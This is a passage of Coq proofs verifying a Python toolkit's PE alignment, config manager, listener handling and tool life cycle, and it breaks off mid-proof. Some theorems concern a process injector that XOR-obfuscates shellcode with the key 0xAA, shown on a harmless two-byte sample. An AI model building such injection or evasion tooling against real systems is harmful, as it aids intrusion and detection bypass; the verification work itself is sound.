  repeat constructor; unfold byte; lia.
Defined.

(** ** Alignment (tools/pe_injector.py) *)

(** [_align] rounds up to the next multiple: for a positive alignment the
    result is a multiple of it, at least [value] and less than one alignment
    above it, and it is [value] itself when that is aligned already; an
    alignment of zero raises [ZeroDivisionError]. *)
Theorem align_rounds_up (value alignment : Z) :
  (0 < alignment ->
     exists r,
       PELayout._align value alignment = Returned r /\
       r mod alignment = 0 /\
       value <= r < value + alignment /\
       (value mod alignment = 0 -> r = value)) /\
  (alignment = 0 ->
     exists e,
       PELayout._align value alignment = Raised e /\
       exc_class e = ZeroDivisionError).
Proof.
  unfold PELayout._align. split.
  - intros Hpos. destruct (Z.eqb_spec alignment 0) as [|_]; [lia|].
    eexists. split; [reflexivity|].
    pose proof (Z.div_mod (value + alignment - 1) alignment ltac:(lia)) as Hdm.
    pose proof (Z.mod_pos_bound (value + alignment - 1) alignment Hpos) as Hm.
    set (q := (value + alignment - 1) / alignment) in *.
    split; [by apply Z.mod_mul; lia|]. split; [nia|].
    intros Haligned.
    pose proof (Z.div_mod value alignment ltac:(lia)) as Hv.
    rewrite Haligned in Hv.
    assert (q = value / alignment) by nia. nia.
  - intros ->. eexists. by split.
Qed.

(** ** Shellcode encryption (tools/process_injector.py) *)

(** [_encrypt_shellcode] changes the shellcode only when the method is
    ["xor"]: then every byte is XORed with [0xAA], and a second application
    gives the shellcode back.  For every other method, ["custom_xor"] and
    ["rc4"] included, the shellcode comes back as it is. *)
Theorem encrypt_shellcode_xor_or_nothing
    (config method : PyVal) (shellcode : list Z) (s : State) :
  (section ← py_getitem config "injection"; py_getitem section "encryption")
    = Returned method ->
  Forall byte shellcode ->
  exists out,
    _encrypt_shellcode config shellcode s = (s, Returned out) /\
    (py_eq method (PyStr "xor") = false -> out = shellcode) /\
    (py_eq method (PyStr "xor") = true ->
       out = map (λ b, Z.lxor b 0xAA) shellcode /\
       _encrypt_shellcode config out s = (s, Returned shellcode)).
Proof.
  intros Hmethod Hbytes.
  assert (Hxor : forall l, Forall byte l ->
            bytes_of (map (λ b, Z.lxor b 0xAA) l)
            = Returned (map (λ b, Z.lxor b 0xAA) l)).
  { intros l Hl. apply bytes_of_ok. apply Forall_map.
    eapply Forall_impl; [exact Hl|]. intros b Hb. cbn.
    apply lxor_byte; [done|]. unfold byte. lia. }
  unfold _encrypt_shellcode, config_at, bindM, lift, ProcessInjector.ret.
  rewrite Hmethod.
  destruct (py_eq method (PyStr "xor")) eqn:Heq.
  - exists (map (λ b, Z.lxor b 0xAA) shellcode).
    split; [by rewrite Hxor|]. split; [done|]. intros _. split; [done|].
    rewrite Hxor.
    + do 2 f_equal. rewrite map_map. rewrite <- (map_id shellcode) at 2.
      apply map_ext. intros b. apply lxor_twice.
    + apply Forall_map. eapply Forall_impl; [exact Hbytes|]. intros b Hb. cbn.
      apply lxor_byte; [done|]. unfold byte. lia.
  - exists shellcode. by repeat split.
Qed.

Lemma encrypt_shellcode_xor_or_nothing_witness :
  exists out,
    _encrypt_shellcode injector_config [0x90; 0xC3] idle = (idle, Returned out) /\
    (py_eq (PyStr "xor") (PyStr "xor") = false -> out = [0x90; 0xC3]) /\
    (py_eq (PyStr "xor") (PyStr "xor") = true ->
       out = map (λ b, Z.lxor b 0xAA) [0x90; 0xC3] /\
       _encrypt_shellcode injector_config out idle
         = (idle, Returned [0x90; 0xC3])).
Proof.
  apply (encrypt_shellcode_xor_or_nothing injector_config (PyStr "xor")).
  - reflexivity.
  - repeat constructor; unfold byte; lia.
Defined.

(** ** Loading and saving (config/config_manager.py) *)

Lemma validate_dict_agree (schema d d' : list (string * PyVal)) :
  (forall k, k ∈ map fst schema -> dict_get k d = dict_get k d') ->
  _validate_dict (PyDict d) (PyDict schema)
  = _validate_dict (PyDict d') (PyDict schema).
Proof.
  induction schema as [|[key vs] schema IH]; intros Hagree; [done|].
  rewrite !validate_dict_cons.
  rewrite IH by (intros k Hk; apply Hagree; cbn; by right).
  unfold py_contains, py_getitem, hashable, dict_mem.
  by rewrite (Hagree key) by (cbn; by left).
Qed.

Lemma valid_config_is_dict (c : PyVal) :
  validate _get_config_schema c = Returned true -> exists d, c = PyDict d.
Proof.
  unfold validate, _get_config_schema. rewrite validate_dict_cons.
  destruct c as [| | | |s|l|d]; try (by cbn); [| |by eexists].
  - cbn [py_contains]. cbn [mbind outcome_bind].
    destruct (str_contains "ui" s); by cbn.
  - cbn [py_contains]. cbn [mbind outcome_bind].
    destruct (existsb _ l); by cbn.
Qed.

Lemma dict_set_twice {V} (k : string) (v : V) (d : pydict V) :
  dict_set k v (dict_set k v d) = dict_set k v d.
Proof.
  induction d as [|[k' v'] d IH]; cbn [dict_set].
  - by rewrite String.eqb_refl.
  - destruct (String.eqb k k') eqn:E; cbn [dict_set].
    + by rewrite String.eqb_refl.
    + by rewrite E, IH.
Qed.

(** What the save inside [load_config] and [set] leaves, for a
    configuration that is a dictionary. *)
Lemma save_config_outcome (disk : Disk) (d : list (string * PyVal))
    (f : SettingsFile) (rt : Runtime) :
  exists f' rt' r,
    save_config disk (MkConfigManager (PyDict d) f) rt
    = (MkConfigManager (PyDict d) f', rt', r) /\
    match write_failure disk (to_save d) with
    | None => f' = saved d /\ rt' = rt
    | Some _ =>
        (f' = f \/ f' = Unreadable (leftover disk)) /\
        exists entries, log rt' = log rt ++ entries /\ entries <> []
    end.
Proof.
  destruct (write_failure disk (to_save d)) as [e|] eqn:Hwrite.
  - destruct (save_config_failed disk d f rt e Hwrite)
      as (f' & rt' & v & -> & Hf' & Hlog & _).
    by exists f', rt', (Returned v).
  - rewrite (save_config_written disk d f rt Hwrite). by eexists _, _, _.
Qed.

(** Whatever the settings file holds, [load_config] leaves a configuration
    that passes the schema.  It is the configuration read from the file (or
    migrated from it) when that one passes: the call then returns [None]
    and the configuration is written back stamped with the version, a
    failing write being reported by the error handler and leaving the file
    as it was or cut short.  It is the defaults when the file cannot be read
    or what was read does not pass: the file is then not touched and the
    call yields a structured error.  The exceptions the file system raises
    are taken within the error handler's range. *)
Theorem load_config_leaves_valid_config
    (disk : Disk) (cm : ConfigManager) (rt : Runtime) :
  (forall e, settings_file cm = Unreadable e -> dispatched_by_class e = true) ->
  (forall v e, write_failure disk v = Some e -> dispatched_by_class e = true) ->
  exists cm' rt' r,
    load_config disk cm rt = (cm', rt', r) /\
    validate _get_config_schema (Config.config cm') = Returned true /\
    ((exists d,
        read_config (settings_file cm) = Returned (PyDict d) /\
        Config.config cm' = PyDict d /\ r = Returned PyNone /\
        match write_failure disk (to_save d) with
        | None => settings_file cm' = saved d /\ rt' = rt
        | Some _ =>
            (settings_file cm' = settings_file cm \/
             settings_file cm' = Unreadable (leftover disk)) /\
            exists entries, log rt' = log rt ++ entries /\ entries <> []
        end) \/
     (cm' = MkConfigManager _get_default_config (settings_file cm) /\
      (forall c, read_config (settings_file cm) = Returned c ->
                 validate _get_config_schema c <> Returned true) /\
      exists d, r = Returned d /\
                py_getitem d "status" = Returned (PyStr "error"))).
Proof.
  intros _ _.
  assert (Hdefault : validate _get_config_schema _get_default_config
                     = Returned true) by (by vm_compute).
  unfold load_config, load_config_body.
  destruct (read_config (settings_file cm)) as [c|e] eqn:Hread.
  - destruct (validate _get_config_schema c) as [[|]|e] eqn:Hvalid.
    + destruct (valid_config_is_dict c Hvalid) as [d ->].
      destruct (save_config_outcome disk d (settings_file cm) rt)
        as (f' & rt' & r & -> & Hsave).
      do 3 eexists. split; [reflexivity|]. split; [done|]. left.
      exists d. by split_and!.
    + do 3 eexists. split; [reflexivity|]. split; [done|]. right.
      split; [done|]. split; [|eexists; by split].
      intros c' [= <-]. by rewrite Hvalid.
    + destruct (error_handler_never_raises "load_config" e rt)
        as (rt' & d & Hd & Hstatus & _).
      do 3 eexists. rewrite Hd. split; [reflexivity|]. split; [done|]. right.
      split; [done|]. split; [|by exists d].
      intros c' [= <-]. by rewrite Hvalid.
  - destruct (error_handler_never_raises "load_config" e rt)
      as (rt' & d & Hd & Hstatus & _).
    do 3 eexists. rewrite Hd. split; [reflexivity|]. split; [done|]. right.
    split; [done|]. split; [done|]. by exists d.
Qed.

Lemma load_config_leaves_valid_config_witness :
  exists cm' rt' r,
    load_config full_disk (MkConfigManager PyNone NoFile) Runtime_init
    = (cm', rt', r) /\
    validate _get_config_schema (Config.config cm') = Returned true /\
    ((exists d,
        read_config NoFile = Returned (PyDict d) /\
        Config.config cm' = PyDict d /\ r = Returned PyNone /\
        match write_failure full_disk (to_save d) with
        | None => settings_file cm' = saved d /\ rt' = Runtime_init
        | Some _ =>
            (settings_file cm' = NoFile \/
             settings_file cm' = Unreadable (leftover full_disk)) /\
            exists entries,
              log rt' = log Runtime_init ++ entries /\ entries <> []
        end) \/
     (cm' = MkConfigManager _get_default_config NoFile /\
      (forall c, read_config NoFile = Returned c ->
                 validate _get_config_schema c <> Returned true) /\
      exists d, r = Returned d /\
                py_getitem d "status" = Returned (PyStr "error"))).
Proof.
  apply (load_config_leaves_valid_config full_disk
           (MkConfigManager PyNone NoFile) Runtime_init).
  - intros e He. discriminate He.
  - intros v e He. vm_compute in He. by injection He as <-.
Defined.

(** When the writes succeed, saving a valid configuration and loading it
    again does not give the same dictionary back: the loaded one has the
    key [_version] added.  Every other key reads as before, and loading once
    more changes nothing. *)
Theorem save_then_load_adds_version
    (d : list (string * PyVal)) (f : SettingsFile) (disk disk' : Disk)
    (rt : Runtime) :
  validate _get_config_schema (PyDict d) = Returned true ->
  write_failure disk (to_save d) = None ->
  write_failure disk' (to_save d) = None ->
  let stamped := dict_set "_version" (PyStr Config.version) d in
  let loaded := MkConfigManager (PyDict stamped) (saved d) in
  save_config disk (MkConfigManager (PyDict d) f) rt
    = (MkConfigManager (PyDict d) (saved d), rt, Returned PyNone) /\
  load_config disk' (MkConfigManager (PyDict d) (saved d)) rt
    = (loaded, rt, Returned PyNone) /\
  load_config disk' loaded rt = (loaded, rt, Returned PyNone) /\
  dict_get "_version" stamped = Some (PyStr Config.version) /\
  (forall k, k <> "_version" -> dict_get k stamped = dict_get k d).
Proof.
  intros Hvalid Hdisk Hdisk' stamped loaded.
  assert (Hstamped : validate _get_config_schema (PyDict stamped)
                     = Returned true).
  { rewrite <- Hvalid. unfold validate, _get_config_schema.
    erewrite validate_dict_agree; [reflexivity|].
    intros k Hk. unfold stamped. apply dict_get_set_ne. intros <-.
    cbn in Hk.
    repeat (apply elem_of_cons in Hk as [Hk|Hk]; [discriminate|]).
    by apply elem_of_nil in Hk. }
  assert (Hread : read_config (saved d) = Returned (PyDict stamped)).
  { assert (Hv : dict_get "_version" stamped = Some (PyStr Config.version))
      by apply dict_get_set_eq.
    unfold read_config, saved, py_get. fold stamped. rewrite Hv.
    cbn [mbind outcome_bind]. unfold _validate_version. cbn [py_eq].
    by rewrite String.eqb_refl. }
  assert (Htwice : to_save stamped = to_save d).
  { unfold to_save, stamped. by rewrite dict_set_twice. }
  assert (Hsaved : saved stamped = saved d).
  { unfold saved, stamped. by rewrite dict_set_twice. }
  assert (Hload : forall previous,
            load_config disk' (MkConfigManager previous (saved d)) rt
            = (loaded, rt, Returned PyNone)).
  { intros previous. unfold load_config, load_config_body.
    cbn [settings_file]. rewrite Hread, Hstamped.
    rewrite save_config_written by (by rewrite Htwice).
    by rewrite Hsaved. }
  split; [by apply save_config_written|]. split; [apply Hload|].
  split; [apply Hload|]. split.
  - unfold stamped. apply dict_get_set_eq.
  - intros k Hk. unfold stamped. apply dict_get_set_ne. congruence.
Qed.

Lemma save_then_load_adds_version_witness :
  load_config good_disk
    (MkConfigManager _get_default_config (saved default_items)) Runtime_init
  = (MkConfigManager
       (PyDict (dict_set "_version" (PyStr Config.version) default_items))
       (saved default_items),
     Runtime_init, Returned PyNone).
Proof.
  assert (Hvalid : validate _get_config_schema (PyDict default_items)
                   = Returned true) by reflexivity.
  exact (proj1 (proj2 (save_then_load_adds_version default_items NoFile
                         good_disk good_disk Runtime_init Hvalid
                         eq_refl eq_refl))).
Defined.

(** ** Reading, writing and listening (config/config_manager.py) *)

Lemma existsb_eqb_elem (x : Z) (l : list Z) :
  existsb (Z.eqb x) l = true <-> x ∈ l.
Proof.
  rewrite existsb_exists, list_elem_of_In. split.
  - intros (y & Hy & Heq). apply Z.eqb_eq in Heq. by subst.
  - intros Hx. exists x. split; [done|apply Z.eqb_refl].
Qed.

Lemma list_remove_elem (x y : Z) (l : list Z) :
  y ∈ ConfigAccess.list_remove x l -> y ∈ l.
Proof.
  induction l as [|z l IH]; cbn [ConfigAccess.list_remove]; [done|].
  destruct (x =? z).
  - intros Hy. by right.
  - rewrite !elem_of_cons. intros [->|Hy]; [by left|right; by apply IH].
Qed.

Lemma list_remove_NoDup (x : Z) (l : list Z) :
  NoDup l ->
  NoDup (ConfigAccess.list_remove x l) /\ x ∉ ConfigAccess.list_remove x l.
Proof.
  induction l as [|z l IH]; cbn [ConfigAccess.list_remove]; intros Hnd.
  - split; [done|]. apply not_elem_of_nil.
  - apply NoDup_cons in Hnd as [Hz Hnd]. destruct (IH Hnd) as [IH1 IH2].
    destruct (Z.eqb_spec x z) as [->|Hne]; [done|].
    split.
    + apply NoDup_cons. split; [|done]. intros Hin. apply Hz.
      by apply list_remove_elem in Hin.
    + apply not_elem_of_cons. by split.
Qed.

(** No listener is ever registered twice.  After any series of
    registrations and removals on a manager without listeners, the list of
    listeners has no duplicates; so [add_listener] makes its argument a
    listener (last in the order of notification when it was not one), and
    [remove_listener] leaves no trace of its argument. *)
Theorem listeners_registered_once (ops : list ListenerOp) (cm : ConfigManager) :
  let m := fold_left listener_step ops (ConfigAccess.MkManager cm []) in
  NoDup (ConfigAccess.listeners m) /\
  ConfigAccess.base m = cm /\
  forall l,
    (l ∈ ConfigAccess.listeners (ConfigAccess.add_listener l m)) /\
    (l ∉ ConfigAccess.listeners (ConfigAccess.remove_listener l m)) /\
    (l ∉ ConfigAccess.listeners m ->
       ConfigAccess.listeners (ConfigAccess.add_listener l m)
       = ConfigAccess.listeners m ++ [l]).
Proof.
  cbv zeta.
  assert (Hinv : forall ops m,
            NoDup (ConfigAccess.listeners m) ->
            NoDup (ConfigAccess.listeners (fold_left listener_step ops m)) /\
            ConfigAccess.base (fold_left listener_step ops m)
            = ConfigAccess.base m).
  { clear. induction ops as [|op ops IH]; intros m Hnd; [done|].
    cbn [fold_left].
    assert (Hstep : NoDup (ConfigAccess.listeners (listener_step m op)) /\
                    ConfigAccess.base (listener_step m op)
                    = ConfigAccess.base m).
    { destruct op as [l|l]; cbn [listener_step].
      - unfold ConfigAccess.add_listener.
        destruct (existsb (Z.eqb l) (ConfigAccess.listeners m)) eqn:Hin;
          cbn [negb]; [done|].
        cbn [ConfigAccess.listeners ConfigAccess.base]. split; [|done].
        apply NoDup_app. split; [done|]. split; [|apply NoDup_singleton].
        intros x Hx Hxl. apply list_elem_of_singleton in Hxl as ->.
        apply existsb_eqb_elem in Hx. congruence.
      - unfold ConfigAccess.remove_listener.
        destruct (existsb (Z.eqb l) (ConfigAccess.listeners m)); [|done].
        cbn [ConfigAccess.listeners ConfigAccess.base]. split; [|done].
        by apply list_remove_NoDup. }
    destruct Hstep as [Hnd' Hbase].
    destruct (IH _ Hnd') as [? Hb]. split; [done|]. by rewrite Hb. }
  destruct (Hinv ops (ConfigAccess.MkManager cm []) (NoDup_nil_2)) as [Hnd Hbase].
  split; [done|]. split; [done|]. intros l.
  set (m := fold_left listener_step ops _) in *.
  unfold ConfigAccess.add_listener, ConfigAccess.remove_listener.
  destruct (existsb (Z.eqb l) (ConfigAccess.listeners m)) eqn:Hin; cbn [negb].
  - apply existsb_eqb_elem in Hin. split; [done|]. split; [|done].
    cbn [ConfigAccess.listeners]. by apply list_remove_NoDup.
  - assert (Hout : l ∉ ConfigAccess.listeners m).
    { intros Hl. apply existsb_eqb_elem in Hl. congruence. }
    cbn [ConfigAccess.listeners]. split; [|by split].
    apply elem_of_app. right. by apply list_elem_of_singleton.
Qed.

(** [set] followed by [get], for a new value that holds no NaN and a file
    system whose exceptions are within the error handler's range.  When
    the stored value (or [None] for a key that is not there) equals the new
    one, [set] does nothing at all: no listener is called and nothing is
    written.  Otherwise the key holds the new value afterwards and every
    other key reads as before, all listeners are notified in their order
    with the key, the old and the new value, and the changed configuration
    is saved; a failing write is reported by the error handler and leaves
    the file as it was or cut short, the new value staying in memory.
    Nothing is validated on the way, and the call returns [None]. *)
Theorem set_then_get (W : Type)
    (call : Z -> ConfigAccess.ConfigChangeEvent -> W -> W * outcome unit)
    (disk : Disk) (k : string) (value : PyVal) (d : list (string * PyVal))
    (f : SettingsFile) (ls : list Z)
    (w : W) (out : list string) (rt : Runtime) :
  nan_free value = true ->
  (forall v e, write_failure disk v = Some e -> dispatched_by_class e = true) ->
  let m := ConfigAccess.MkManager (MkConfigManager (PyDict d) f) ls in
  let old := default PyNone (dict_get k d) in
  exists m' w' out' rt',
    ConfigAccess.set W call disk k value m w out rt
      = (m', w', out', rt', Returned PyNone) /\
    ConfigAccess.get m k PyNone = Returned old /\
    if py_eq old value
    then m' = m /\ w' = w /\ out' = out /\ rt' = rt
    else ConfigAccess.get m' k PyNone = Returned value /\
         (forall k' dflt, k' <> k ->
            ConfigAccess.get m' k' dflt = ConfigAccess.get m k' dflt) /\
         Config.config (ConfigAccess.base m') = PyDict (dict_set k value d) /\
         ConfigAccess.listeners m' = ls /\
         (w', out')
           = ConfigAccess._notify_listeners W call ls
               (ConfigAccess.MkEvent k old value) w out /\
         match write_failure disk (to_save (dict_set k value d)) with
         | None =>
             settings_file (ConfigAccess.base m') = saved (dict_set k value d) /\
             rt' = rt
         | Some _ =>
             (settings_file (ConfigAccess.base m') = f \/
              settings_file (ConfigAccess.base m') = Unreadable (leftover disk)) /\
             exists entries, log rt' = log rt ++ entries /\ entries <> []
         end.
Proof.
  intros _ _. cbv zeta.
  unfold ConfigAccess.set, ConfigAccess.set_body, ConfigAccess.get.
  cbn [ConfigAccess.base Config.config py_get ConfigAccess.py_setitem
       ConfigAccess.listeners settings_file].
  change (match dict_get k d with Some v => v | None => PyNone end)
    with (default PyNone (dict_get k d)).
  destruct (py_eq (default PyNone (dict_get k d)) value) eqn:Heq; cbn [negb].
  - do 4 eexists. split; [reflexivity|]. by repeat split.
  - destruct (ConfigAccess._notify_listeners W call ls _ w out)
      as [w' out'] eqn:Hnotify.
    destruct (save_config_outcome disk (dict_set k value d) f rt)
      as (f' & rt' & r & -> & Hsave).
    do 4 eexists. split; [reflexivity|]. split; [done|].
    cbn [ConfigAccess.base Config.config py_get ConfigAccess.listeners
         settings_file].
    split; [by rewrite dict_get_set_eq|]. split; [|by split_and!].
    intros k' dflt Hne. rewrite dict_get_set_ne by congruence. done.
Qed.

Lemma set_then_get_witness :
  let call := λ (_ : Z) (_ : ConfigAccess.ConfigChangeEvent) (w : unit),
                (w, @Returned unit tt) in
  let d := [("language", PyStr "zh_CN")] in
  let m := ConfigAccess.MkManager (MkConfigManager (PyDict d) NoFile) [7] in
  exists m' w' out' rt',
    ConfigAccess.set unit call full_disk "language" (PyStr "en_US") m tt []
      Runtime_init
      = (m', w', out', rt', Returned PyNone) /\
    ConfigAccess.get m "language" PyNone = Returned (PyStr "zh_CN") /\
    ConfigAccess.get m' "language" PyNone = Returned (PyStr "en_US") /\
    settings_file (ConfigAccess.base m') = Unreadable empty_file_error.
Proof.
  intros call d m.
  destruct (set_then_get unit call full_disk "language" (PyStr "en_US") d
              NoFile [7] tt [] Runtime_init)
    as (m' & w' & out' & rt' & Hset & Hget & Hrest).
  - reflexivity.
  - intros v e He. vm_compute in He. by injection He as <-.
  - exists m', w', out', rt'. split; [exact Hset|]. split; [exact Hget|].
    cbn in Hrest. destruct Hrest as (Hnew & _ & _ & _ & _ & [Hf|Hf] & _).
    + split; [exact Hnew|]. exfalso.
      vm_compute in Hset. injection Hset as <- _ _ _. discriminate Hf.
    + by split.
Defined.

(** ** The life cycle of a tool (core/tool_base.py) *)

(** The structured error result is a non-empty dictionary, hence true in a
    condition. *)
Lemma error_result_truthy (fname : string) (e : PyExc) (rt : Runtime) :
  exists rt' d,
    error_handler fname (Raised e) rt = (rt', Returned d) /\
    truthy d = true /\
    py_getitem d "status" = Returned (PyStr "error") /\
    py_getitem d "message" = Returned (PyStr (exc_msg e)).
Proof.
  unfold error_handler, handle_error.
  destruct e as [c msg det].
  destruct c; cbn -[record_error];
    repeat case_match; simplify_eq;
    (do 2 eexists; split; [reflexivity|by repeat split]).
Qed.

Lemma decorated_returns {S : Type} (fname : string)
    (body : S -> Runtime -> S * Runtime * outcome PyVal)
    (self self' : S) (rt rt' : Runtime) (r : outcome PyVal) :
  body self rt = (self', rt', r) ->
  exists rt'' v,
    ErrorReporting.decorated fname body self rt = (self', rt'', Returned v) /\
    (forall a, r = Returned a -> v = a /\ rt'' = rt') /\
    (forall e, r = Raised e ->
       truthy v = true /\
       py_getitem v "status" = Returned (PyStr "error") /\
       py_getitem v "message" = Returned (PyStr (exc_msg e))).
Proof.
  intros Hbody. unfold ErrorReporting.decorated. rewrite Hbody.
  destruct r as [a|e].
  - do 2 eexists. split; [reflexivity|]. split; [by intros ? [= ->]|done].
  - destruct (error_result_truthy fname e rt') as (rt'' & d & -> & ? & ? & ?).
    do 2 eexists. split; [reflexivity|]. split; [done|]. by intros ? [= <-].
Qed.

(** [initialize], whatever the status it is called in.  The body ends with
    status ready exactly when [_initialize] ran and returned a true value,
    and with status error otherwise, the exception being kept in [_error]
    when there is one.  [_initialize] runs at most once, on the tool set to
    initializing, and not at all when a configuration is given that the
    schema rejects: [initialize] then raises an Operation error and the
    tool keeps its old configuration.  Under [@error_handler] the caller gets
    the result of [_initialize]; for an exception that is one of the
    toolkit's errors, or whose class bears none of the names a handler is
    registered under, the caller gets the structured error result, which
    counts as true in a condition. *)
Theorem initialize_status_protocol
    (impl : ToolLifecycle.ToolImpl) (import : string -> ToolLifecycle.Import)
    (config : PyVal) (t : Tool) (rt : Runtime) (inits : list Tool) :
  exists t' rt' inits' r,
    ToolLifecycle.initialize_body impl import config t rt inits
      = (t', rt', inits', r) /\
    match r with
    | Returned result =>
        status t' = (if truthy result then READY else ERROR) /\
        exists started,
          inits' = inits ++ [started] /\ status started = INITIALIZING /\
          (truthy config = true -> ToolBase.config started = config)
    | Raised e =>
        status t' = ERROR /\ _error t' = Some e /\
        (inits' = inits \/ exists started, inits' = inits ++ [started])
    end /\
    (forall e0,
       truthy config = true -> truthy (config_schema t) = true ->
       nan_free config = true ->
       ToolLifecycle._validate_config_schema config (config_schema t)
         = Raised e0 ->
       r = Raised (raise_exc OperationError "配置验证失败") /\
       inits' = inits /\ ToolBase.config t' = ToolBase.config t) /\
    (forall result,
       r = Returned result ->
       ToolLifecycle.initialize impl import config t rt inits
         = (t', rt', inits', Returned result)) /\
    (forall e,
       r = Raised e -> dispatched_by_class e = true ->
       exists rt'' v,
         ToolLifecycle.initialize impl import config t rt inits
           = (t', rt'', inits', Returned v) /\
         truthy v = true /\ py_getitem v "status" = Returned (PyStr "error")).
Proof.
  destruct (ToolLifecycle.initialize_body impl import config t rt inits)
    as [[[t' rt'] inits'] r] eqn:Hbody.
  exists t', rt', inits', r. split; [done|].
  assert (Hcaller :
    (forall result,
       r = Returned result ->
       ToolLifecycle.initialize impl import config t rt inits
         = (t', rt', inits', Returned result)) /\
    (forall e,
       r = Raised e -> dispatched_by_class e = true ->
       exists rt'' v,
         ToolLifecycle.initialize impl import config t rt inits
           = (t', rt'', inits', Returned v) /\
         truthy v = true /\
         py_getitem v "status" = Returned (PyStr "error"))).
  { unfold ToolLifecycle.initialize. rewrite Hbody. split.
    - by intros result ->.
    - intros e -> _.
      destruct (error_result_truthy "initialize" e rt')
        as (rt'' & d & -> & ? & ? & ?).
      by exists rt'', d. }
  split; [|split; [|exact Hcaller]]; clear Hcaller.
  - unfold ToolLifecycle.initialize_body, ToolLifecycle.validate_config,
      ToolLifecycle.validate_config_body, error_handler in Hbody.
    repeat (case_match; simplify_eq; cbn -[handle_error] in *);
      try (split; [done|]; split; [done|];
           first [by left | by (right; eexists)]);
      try (split; [done|]; eexists; split; [done|]; split; [done|];
           by (done || intros [=])).
  - intros e0 Hc Hs _ Hv.
    unfold ToolLifecycle.initialize_body, ToolLifecycle.validate_config,
      ToolLifecycle.validate_config_body, error_handler in Hbody.
    change (config_schema (set_status INITIALIZING t))
      with (config_schema t) in Hbody.
    rewrite Hc, Hs, Hv in Hbody. cbn in Hbody. by simplify_eq.
Qed.

Lemma initialize_settles
    (impl : ToolLifecycle.ToolImpl) (import : string -> ToolLifecycle.Import)
    (config : PyVal) (t : Tool) (rt : Runtime) (inits : list Tool) :
  let t' := (ToolLifecycle.initialize impl import config t rt inits).1.1.1 in
  status t' = READY \/ status t' = ERROR.
Proof.
  cbv zeta. unfold ToolLifecycle.initialize.
  destruct (ToolLifecycle.initialize_body impl import config t rt inits)
    as [[[t' rt'] inits'] r] eqn:Hbody.
  destruct (error_handler "initialize" r rt') as [rt'' r'].
  cbn [fst].
  unfold ToolLifecycle.initialize_body, ToolLifecycle.validate_config,
    ToolLifecycle.validate_config_body, error_handler in Hbody.
  repeat (case_match; simplify_eq; cbn -[handle_error] in *);
    first [by left | by right].
Qed.

Lemma execute_settles (cls : ToolClass) (now : Z)
    (args : list PyVal) (kwargs : pydict PyVal)
    (t : Tool) (rt : Runtime) (calls : list Invocation) :
  let t' := (execute cls now args kwargs t rt calls).1.1.1 in
  (status t = READY /\ (status t' = READY \/ status t' = ERROR)) \/
  (status t <> READY /\ t' = t).
Proof.
  cbv zeta. unfold execute, execute_body.
  destruct (is_ready (status t)) eqn:Hready; cbn [negb].
  - left. split; [by destruct (status t)|].
    destruct (_execute cls args kwargs _ rt) as [[t3 rt3] [v|e]];
      destruct (error_handler "execute" _ rt3); cbn; first [by left | by right].
  - right. destruct (error_handler "execute" _ rt). cbn.
    split; [|done]. intros Hr. by rewrite Hr in Hready.
Qed.

Lemma cleanup_settles (impl : ToolLifecycle.ToolImpl) (t : Tool) (rt : Runtime) :
  let t' := (ToolLifecycle.cleanup impl t rt).1.1 in
  status t' = CLEANED \/ status t' = ERROR.
Proof.
  cbv zeta. unfold ToolLifecycle.cleanup, ToolLifecycle.cleanup_body.
  destruct (ToolLifecycle._cleanup impl _ rt) as [[t2 rt2] [v|e]];
    destruct (error_handler "cleanup" _ rt2); cbn; first [by left | by right].
Qed.

(** Between two calls a tool is never in a transient status.  After any
    series of [initialize], [execute], [cleanup], [pause], [resume] and
    [reset] on a newly built tool, whatever the hooks do, the status is
    one of uninitialized, ready, error and cleaned; so [pause] and [resume],
    called from outside [_execute], change nothing. *)
Theorem tool_rests_in_settled_status
    (impl : ToolLifecycle.ToolImpl) (import : string -> ToolLifecycle.Import)
    (ops : list ToolOp) (cfg schema : PyVal) (rt : Runtime) :
  let t := (fold_left (tool_step impl import) ops
                      (ToolBase_init cfg schema, rt)).1 in
  settled (status t) /\
  ToolLifecycle.pause t = t /\ ToolLifecycle.resume t = t.
Proof.
  cbv zeta.
  assert (Hinv : forall ops st,
            settled (status st.1) ->
            settled (status (fold_left (tool_step impl import) ops st).1)).
  { clear. induction ops as [|op ops IH]; intros [t rt] Hs; [done|].
    cbn [fold_left]. apply IH. cbn [fst] in Hs.
    destruct op as [config|now args kwargs| | | |]; cbn [tool_step].
    - pose proof (initialize_settles impl import config t rt []) as H.
      destruct (ToolLifecycle.initialize impl import config t rt [])
        as [[[t' rt'] ?] ?]. cbn in *. unfold settled. tauto.
    - pose proof (execute_settles (ToolLifecycle.cls impl) now args kwargs
                    t rt []) as H.
      destruct (execute (ToolLifecycle.cls impl) now args kwargs t rt [])
        as [[[t' rt'] ?] ?]. cbn in *. unfold settled.
      destruct H as [[_ H]|[_ ->]]; [tauto|done].
    - pose proof (cleanup_settles impl t rt) as H.
      destruct (ToolLifecycle.cleanup impl t rt) as [[t' rt'] ?].
      cbn in *. unfold settled. tauto.
    - cbn. unfold ToolLifecycle.pause.
      destruct Hs as [H|[H|[H|H]]]; rewrite H; cbn; rewrite H;
        unfold settled; tauto.
    - cbn. unfold ToolLifecycle.resume.
      destruct Hs as [H|[H|[H|H]]]; rewrite H; cbn; rewrite H;
        unfold settled; tauto.
    - cbn. by left. }
  specialize (Hinv ops (ToolBase_init cfg schema, rt) (or_introl eq_refl)).
  split; [done|].
  unfold ToolLifecycle.pause, ToolLifecycle.resume.
  destruct Hinv as [H|[H|[H|H]]]; by rewrite H.
Qed.

(** [cleanup] ends with status cleaned when [_cleanup] returns and with
    status error, the exception kept, when it raises; [_cleanup] is run on
    the tool set to cleaning.  In both cases the tool then refuses to
    execute: the call changes nothing, does not reach [_execute] and
    yields an Operation error result. *)
Theorem cleanup_then_execute_refused
    (impl : ToolLifecycle.ToolImpl) (t : Tool) (rt : Runtime)
    (now : Z) (args : list PyVal) (kwargs : pydict PyVal)
    (calls : list Invocation) :
  exists t1 rt1 r1,
    ToolLifecycle.cleanup_body impl t rt = (t1, rt1, r1) /\
    (exists hooked outcome,
       ToolLifecycle._cleanup impl (set_status CLEANING t) rt
         = (hooked, rt1, outcome) /\
       match outcome with
       | Returned _ => r1 = Returned PyNone /\ t1 = set_status CLEANED hooked
       | Raised e =>
           r1 = Raised e /\
           t1 = set_error (Some e) (set_status ERROR hooked)
       end) /\
    forall rt1',
    exists rt2 d,
      execute (ToolLifecycle.cls impl) now args kwargs t1 rt1' calls
        = (t1, rt2, calls, Returned d) /\
      py_getitem d "error_code" = Returned (PyStr "ERR_OPERATION").
Proof.
  unfold ToolLifecycle.cleanup_body.
  destruct (ToolLifecycle._cleanup impl (set_status CLEANING t) rt)
    as [[hooked rt1] [v|e]] eqn:Hhook.
